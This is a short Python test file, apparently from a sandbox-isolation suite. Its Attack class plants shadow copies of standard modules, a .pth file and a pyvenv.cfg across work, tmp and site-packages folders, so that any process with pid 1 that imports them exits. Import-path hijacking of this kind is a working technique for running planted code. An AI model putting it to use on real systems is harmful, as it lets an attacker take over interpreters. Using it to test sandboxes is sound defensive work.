"""Modules that kill whoever imports them, if that is the guest."""

import os
import sys

NAMES = (
    "json", "re", "struct", "tarfile", "resource", "traceback", "hashlib", "fnmatch", "contextlib",
    "sitecustomize", "usercustomize", "cfiddle_slurm", "facts", "encodings", "codecs", "io", "os",
)  # fmt: skip
PLACES = (
    "/work",
    "/work/files",
    "/work/modules",
    "/work/results",
    "/tmp",
    "/tmp/.local/lib/python{0}.{1}/site-packages",
    "/work/.local/lib/python{0}.{1}/site-packages",
)
TEXT = "import os\nif os.getpid() == 1:\n    os._exit(99)\n"


class Attack:
    """Carried out inside the sandbox."""

    def attack(self) -> list[str]:
        """Nothing: were one imported by the guest, this would not arrive."""
        for place in PLACES:
            folder = place.format(*sys.version_info)
            os.makedirs(folder, exist_ok=True)
            for name in NAMES:
                with open(f"{folder}/{name}.py", "w") as stream:
                    stream.write(TEXT)
            with open(f"{folder}/own.pth", "w") as stream:
                stream.write("import os; os.getpid() == 1 and os._exit(99)\n")
            with open(f"{folder}/pyvenv.cfg", "w") as stream:
                stream.write("home = /work\n")
            print(f"planted in {folder}")
        return []
